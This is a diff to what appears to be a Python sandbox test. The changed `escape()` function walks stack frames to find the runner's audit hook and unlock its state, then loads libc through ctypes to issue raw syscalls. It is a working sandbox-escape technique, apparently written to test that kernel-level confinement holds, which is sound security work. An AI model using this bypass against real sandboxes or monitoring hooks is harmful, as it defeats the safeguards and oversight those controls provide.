@@ -22,14 +22,14 @@ class Query:
 
 def escape():
     """Leave the Python layers behind, as a program written by an attacker would: ``random._os`` and
-    ``dataclasses.sys`` hand out what they imported, the runner's frames hold the closure that keeps the
+    ``dataclasses.sys`` hand out what they imported, the runner's frames hold the object that keeps the
     audit hook's state, and ctypes is already loaded. What is left is the kernel's."""
     sys = dataclasses.sys
     frame = sys._getframe()
-    while frame is not None and "lock" not in frame.f_locals:
+    while frame is not None and "hook" not in frame.f_locals:
         frame = frame.f_back
-    if frame is not None and frame.f_locals["lock"] is not None:
-        frame.f_locals["lock"].__closure__[0].cell_contents["locked"] = False
+    if frame is not None and frame.f_locals["hook"] is not None:
+        frame.f_locals["hook"]._state["locked"] = False
     ctypes = sys.modules["ctypes"]
     libc = ctypes.CDLL(None, use_errno=True)
     libc.syscall.restype = ctypes.c_long
